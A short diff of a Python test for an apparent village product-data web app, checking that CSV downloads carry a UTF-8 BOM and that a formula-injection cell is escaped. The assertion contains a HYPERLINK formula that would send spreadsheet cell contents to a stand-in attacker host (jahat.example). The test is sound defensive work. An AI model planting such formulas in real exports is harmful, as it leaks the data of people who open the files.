@@ -64,7 +64,7 @@ def test_downloads_are_formula_safe_utf8_with_a_bom(demo, client):
     response = client.get("/desa/dagan/data/produk.csv")
     body = response.content
     assert body.startswith(b"\xef\xbb\xbf") and response["Content-Type"].startswith("text/csv")
-    assert "\"'=HYPERLINK(\"\"http://jahat.example/?\"\"&A2)\"" in body.decode("utf-8-sig")
+    assert '"\'=HYPERLINK(""http://jahat.example/?""&A2)"' in body.decode("utf-8-sig")
     dictionary = client.get("/desa/dagan/data/produk-kamus.csv").content.decode("utf-8-sig")
     assert dictionary.splitlines()[0] == "kolom,label,tipe,keterangan"
     assert "toko,Nama usaha,string" in dictionary
